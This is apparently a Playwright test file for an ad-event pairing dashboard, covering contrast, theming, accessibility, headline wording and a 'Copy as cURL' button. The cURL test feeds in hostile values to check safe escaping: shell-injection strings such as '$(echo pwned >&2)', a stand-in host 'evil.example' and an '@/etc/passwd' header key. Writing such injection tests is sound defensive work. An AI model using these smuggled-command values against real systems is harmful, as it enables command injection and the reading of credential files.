import { execFileSync, spawnSync } from 'node:child_process';
import type { Page } from 'playwright-core';
import { VERDICTS } from '../../tools/pairing/pair-types.ts';
import { openDashboard } from './open-dashboard.ts';
import type { OpenLab } from './open-lab.ts';

/** One row of each verdict. */
async function makeAllVerdicts(lab: OpenLab): Promise<void> {
  await lab.pixel('ev=Lead&eid=a');
  await lab.hit('en=Lead&ep.event_id=a');
  // One of the hashes that the small template sends.
  await lab.pixel(`ev=Subscribe&ud[external_id]=${'0a1b2c'.padEnd(64, '0')}`);
  await lab.hit('en=Subscribe');
  await fetch(`${lab.url}/tr/?id=99&ev=Rate&eid=a`);
  await lab.hit('en=Rate&ep.event_id=a');
  await lab.pixel('ev=Contact&eid=b');
  await lab.hit('en=Contact&ep.event_id=c');
  await lab.pixel('ev=Search&eid=d');
  await lab.hit('en=Schedule&ep.event_id=e');
  await lab.pixel('ev=Purchase&eid=f&cd[order_id]=1');
  await lab.pixel('ev=Purchase&eid=f&cd[order_id]=2');
  await lab.hit('en=skip_me');
  lab.graph.setFault('schema');
  await lab.hit('en=Donate&ep.event_id=g');
}

/**
 * The lowest contrast of texts with their backgrounds, by element. Source: WCAG 2.2, relative luminance and contrast ratio;
 * a canvas turns any notation of a colour into numbers.
 */
const READ_CONTRASTS = `(() => {
  const pen = document.createElement('canvas').getContext('2d', { willReadFrequently: true });
  const known = new Map();
  const rgba = (color) => {
    if (known.has(color)) return known.get(color);
    pen.clearRect(0, 0, 1, 1);
    pen.fillStyle = color;
    pen.fillRect(0, 0, 1, 1);
    known.set(color, [...pen.getImageData(0, 0, 1, 1).data]);
    return known.get(color);
  };
  const light = (color) => {
    const [r, g, b] = rgba(color).map((part) => part / 255).map((part) => part <= 0.04045 ? part / 12.92 : ((part + 0.055) / 1.055) ** 2.4);
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const ground = (node) => {
    const { backgroundColor } = getComputedStyle(node);
    return rgba(backgroundColor)[3] === 255 || !node.parentElement ? backgroundColor : ground(node.parentElement);
  };
  const texts = document.querySelectorAll('.badge, .tile, .name, .notes, .reason, .time, .shared-id, .figure dd, .page-bar a, .page-bar button, .standing *, .quality *, .run');
  return [...texts].map((node) => {
    const [one, other] = [light(getComputedStyle(node).color), light(ground(node))];
    return [node.className + ' ' + (node.dataset.verdict ?? ''), (Math.max(one, other) + 0.05) / (Math.min(one, other) + 0.05)];
  });
})()`;

const readContrasts = (page: Page): Promise<[string, number][]> => page.evaluate(READ_CONTRASTS);

test('Every verdict can be read, in light and in dark', async () => {
  const { lab, page } = await openDashboard();
  await makeAllVerdicts(lab);
  // The second arrival of an id makes its row, which was one side's alone, a duplicate: until then there are two of that verdict.
  for (const verdict of VERDICTS) await page.locator(`.row[data-verdict="${verdict}"]`).first().waitFor();
  for (const colorScheme of ['light', 'dark'] as const) {
    await page.emulateMedia({ colorScheme, reducedMotion: 'reduce' });
    const contrasts = await readContrasts(page);
    expect(contrasts.length).toBeGreaterThan(40);
    // Source: WCAG 2.2, success criterion 1.4.3.
    expect(contrasts.filter(([, ratio]) => ratio < 4.5)).toEqual([]);
  }
});

test('The chosen theme holds against the system’s, and after a reload', async () => {
  const { page } = await openDashboard();
  await page.emulateMedia({ colorScheme: 'light' });
  const ground = (): Promise<string> => page.evaluate('getComputedStyle(document.body).backgroundColor');
  const light = await ground();
  const theme = page.getByRole('button', { name: 'Theme' });
  for (const choice of ['light', 'dark']) {
    await theme.click();
    expect(await theme.textContent()).toBe(`Theme: ${choice}`);
  }
  const dark = await ground();
  expect(dark).not.toBe(light);
  await page.reload();
  expect(await ground()).toBe(dark);
});

test('A screen reader is told of new actions, and the chart has a text of its own', async () => {
  const { lab, page } = await openDashboard();
  await lab.hit('en=Lead&ep.event_id=a');
  await page.getByRole('status').filter({ hasText: 'Lead: server only' }).waitFor({ state: 'attached' });
  await page.getByRole('img', { name: '1 action over time: Server only 1' }).waitFor();
});

test('The copied cURL command sends the same request, with the token from the shell', async () => {
  const { lab, page } = await openDashboard();
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write'], { origin: lab.url });
  await lab.hit(`en=Lead&ep.event_id=${encodeURIComponent("it's $HOME `x`")}`);
  await page.locator('.row-head').click();
  await page.getByRole('button', { name: 'Copy as cURL' }).click();
  await page.getByRole('button', { name: 'Copied' }).waitFor();
  const command: string = await page.evaluate('navigator.clipboard.readText()');
  expect(command).not.toMatch(/EAA/);
  // A shell function stands in for curl and prints the arguments that it was given.
  const script = `curl() { printf '%s\\0' "$@"; }\n${command}`;
  const words = execFileSync('sh', ['-c', script], { env: { ACCESS_TOKEN: 'secret' }, encoding: 'utf8' }).split('\0');
  const [attempt] = lab.newest().attempts;
  expect(words).toEqual(expect.arrayContaining(['-X', 'POST', attempt?.url, attempt?.body]));
  expect(words.join('\n')).toContain('secret');

  // What a session file of a stranger could hold.
  const hostile = {
    method: 'POST; echo pwned >&2; $(echo pwned >&2)',
    url: "https://evil.example/'$(echo pwned >&2)[token]",
    headers: { '@/etc/passwd': 'x', Authorization: 'Bearer [token]' },
    body: '[token]`echo pwned >&2`',
  };
  const written: string = await page.evaluate(
    `import('/pages/curl-command.js').then(({ curlCommand }) => curlCommand(${JSON.stringify(hostile)}))`,
  );
  const run = spawnSync('sh', ['-c', `curl() { printf '%s\\0' "$@"; }\n${written}`], {
    env: { ACCESS_TOKEN: 'secret' },
    encoding: 'utf8',
  });
  expect(run.stderr).toBe('');
  expect(run.stdout.split('\0')).toEqual(expect.arrayContaining([hostile.method, hostile.url, hostile.body]));
  expect(run.stdout).not.toMatch(/secret|passwd/);
});

/** What a function of the dashboard's own scripts gives for each of these lists of arguments. */
const callOnPage = (page: Page, [script, name]: [string, string], calls: readonly unknown[]): Promise<unknown[]> =>
  page.evaluate(
    `import('/pages/${script}.js').then((module) => ${JSON.stringify(calls)}.map((argument) => module.${name}(argument)))`,
  );

/** Totals, the headline, and what is said of the rest. */
const STANDINGS: [object, string, string][] = [
  [{ rows: 0, both: 0 }, 'Waiting for the first action', ''],
  [{ rows: 1, both: 0, 'server-only': 1 }, 'No action has come from both sides yet', '1 came from the server only.'],
  [{ rows: 3, both: 3, paired: 3 }, 'All 3 actions are counted once', ''],
  [
    { rows: 6, both: 3, paired: 2, 'id-mismatch': 1, 'browser-only': 2, skipped: 1 },
    '2 of 3 actions from both sides are counted once',
    '1 counts twice, 2 came from the pixel only and 1 was skipped on purpose.',
  ],
  [{ rows: 2, both: 2, paired: 0, 'not-safe': 2 }, 'None of 2 actions is counted once', '2 may count twice.'],
];

test('Headline, match quality and differences are said in plain words', async () => {
  const { page } = await openDashboard();
  const totals = STANDINGS.map(([counts]) => counts);
  expect(await callOnPage(page, ['headline', 'describeStanding'], totals)).toEqual(STANDINGS.map(([, says]) => says));
  expect(await callOnPage(page, ['headline', 'describeRest'], totals)).toEqual(STANDINGS.map(([, , rest]) => rest));

  const runs = ['Sample', 'Shop B · without', 'The shop', 'a.example', 'b.example', 'a.example'];
  expect(await callOnPage(page, ['headline', 'describeShown'], [[...runs.map((run) => ({ run })), {}]])).toEqual([
    'Shown: the sample that the lab sent itself, the demonstration, the lab’s shop, a.example, b.example, hits from elsewhere.',
  ]);

  const event = (name: string, quality: number, wouldHelp?: string) => ({ server: { name, quality, wouldHelp } });
  const rows = [event('Lead', 4, 'em'), event('Lead', 6, 'em'), event('Lead', 8, 'ph'), event('Purchase', 9), {}];
  expect(await callOnPage(page, ['match-quality', 'qualityByName'], [rows])).toEqual([
    [
      { name: 'Lead', events: 3, quality: 6, key: 'em', lacking: 2 },
      { name: 'Purchase', events: 1, quality: 9 },
    ],
  ]);

  const shared = { field: 'url', before: 'v20.0', after: 'v27.0' };
  const changed = [
    { title: 'page_view', differences: [{ field: 'user_data.em', after: 'x' }, shared] },
    { title: 'purchase', differences: [shared] },
    { title: 'purchase', differences: [shared] },
  ];
  expect(await callOnPage(page, ['differences', 'groupDifferences'], [changed])).toMatchObject([
    [
      { ...shared, events: 3, titles: ['page_view', 'purchase'] },
      { field: 'user_data.em', events: 1, titles: ['page_view'] },
    ],
  ]);
});
